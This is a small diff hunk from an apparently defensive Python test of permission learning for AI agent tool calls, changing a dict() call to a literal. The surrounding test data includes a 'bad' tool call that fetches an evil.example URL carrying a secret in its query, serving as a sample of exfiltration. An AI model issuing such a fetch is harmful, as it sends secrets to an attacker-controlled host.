@@ -135,7 +135,7 @@ def test_what_one_of_many_sessions_brought_is_left_out() -> None:
         ("read", "mcp/web/fetch", {"url": "https://evil.example/?q=secret"}),
     ]
     suggestion = learnt([*honest, bad])
-    fine = dict(to="ana", path="docs/new.txt", url="https://a.example/y", n=15)
+    fine = {"to": "ana", "path": "docs/new.txt", "url": "https://a.example/y", "n": 15}
 
     assert permits(suggestion.scopes, send(**fine))
     for wrong in (
